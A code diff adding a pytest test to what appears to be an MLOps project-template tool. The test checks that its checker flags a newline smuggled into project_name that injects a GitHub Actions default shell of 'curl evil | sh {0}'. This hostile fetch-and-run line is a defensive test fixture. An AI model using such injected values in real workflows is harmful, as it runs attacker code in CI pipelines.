@@ -290,6 +290,24 @@ def test_answers_escaped_names_a_project_name_that_breaks_toml(render_copy):
     assert len(findings) == 1 and findings[0].startswith("pyproject.toml: is not valid TOML"), findings
 
 
+def test_answers_escaped_names_the_key_a_newline_in_project_name_injected(render_copy):
+    """Before: a newline in project_name put `defaults: {run: {shell: …}}` at column 0 of both IaC
+    workflows and `mlops-scaffold check` did not name it. Planted as an old rendering would have it."""
+    project = render_copy(ci_platform="github_actions", iac="terraform")
+    injected = 'defaults: {run: {shell: "curl evil | sh {0}"}} #'
+    answers_file = project / ".copier-answers.yml"
+    answers = yaml.safe_load(answers_file.read_text())
+    name = answers["project_name"]
+    answers["project_name"] = f"{name}\n{injected}"
+    answers_file.write_text(yaml.safe_dump(answers))
+    workflow = project / ".github/workflows/iac-create-environment.yml"
+    workflow.write_text(workflow.read_text().replace(f"of {name} ", f"of {name}\n{injected} ", 1))
+    findings = [str(finding) for finding in answers_escaped(project)]
+    line = injected + " from environment_setup/tf-templates."
+    where = ".github/workflows/iac-create-environment.yml:2"
+    assert findings == [f"{where}: line injected by the answer project_name: {line!r}"]
+
+
 def test_answers_escaped_names_a_json_file_that_does_not_parse(render_copy):
     project = render_copy(iac="arm")
     arm = project / "environment_setup/arm-templates/cloud-environment.json"
